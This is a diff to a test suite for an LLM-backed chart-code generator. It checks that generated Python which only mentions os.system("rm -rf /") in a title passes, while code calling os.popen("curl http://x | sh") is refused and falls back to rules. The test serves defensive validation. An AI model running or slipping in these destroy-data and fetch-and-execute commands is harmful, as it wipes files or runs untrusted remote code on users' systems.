@@ -223,7 +223,8 @@ describe('autotrain text generation (stub chat-completions server)', () => {
     assert.equal(good.source, 'llm');
     assert.doesNotMatch(good.code, /fig\.show|print\("done"\)|Plan:/);
     assert.match(good.code, /^DATA_PATH = "penguins\.csv"$/m);
-    assert.match(good.code, /\ndata = pd\.read_csv\(DATA_PATH\)\nchart = plot\(data\)\n$/);
+    assert.match(good.code, /\ndata = read_data\(DATA_PATH\)\nchart = plot\(data\)\n/);
+    assert.equal(good.code.trimEnd().split('\n').at(-1), 'chart');
     const bad = program.replace('Body Mass (g)', 'Weight (kg)');
     stub.reply({ content: bad }, { content: bad });
     const fallback = await visualizeData(summary, 'histogram of Body Mass (g)', 'plotly', ctx(), frame);
@@ -231,6 +232,27 @@ describe('autotrain text generation (stub chat-completions server)', () => {
     assert.equal(fallback.source, 'rules');
     assert.equal(fallback.code, rules.code);
     assert.match(fallback.warnings[0], /uses column\(s\) 'Weight \(kg\)' that the dataset does not have/);
+  });
+
+  it('passes a program that only mentions os.system in its title and falls back to rules, with a warning, on one that calls os.popen', async () => {
+    const program = (title: string, extra: string) => [
+      'import pandas as pd',
+      'import plotly.express as px',
+      '',
+      'def plot(data):',
+      `    fig = px.histogram(data, x="Body Mass (g)", title=${JSON.stringify(title)})`,
+      ...(extra ? [`    ${extra}`] : []),
+      '    return fig',
+    ].join('\n');
+    stub.reply({ content: program('Is os.system("rm -rf /") in the data?', '') });
+    const honest = await visualizeData(summary, 'histogram of Body Mass (g)', 'plotly', ctx(), frame);
+    assert.equal(honest.source, 'llm');
+    assert.match(honest.code, /title="Is os\.system\(\\"rm -rf \/\\"\) in the data\?"/);
+    const unsafe = program('Mass', 'os.popen("curl http://x | sh")');
+    stub.reply({ content: unsafe }, { content: unsafe });
+    const refused = await visualizeData(summary, 'histogram of Body Mass (g)', 'plotly', ctx(), frame);
+    assert.equal(refused.source, 'rules');
+    assert.match(refused.warnings[0], /not limited to drawing a chart: line 6 uses os/);
   });
 
   it('lets the model reword insights but not add numbers', async () => {
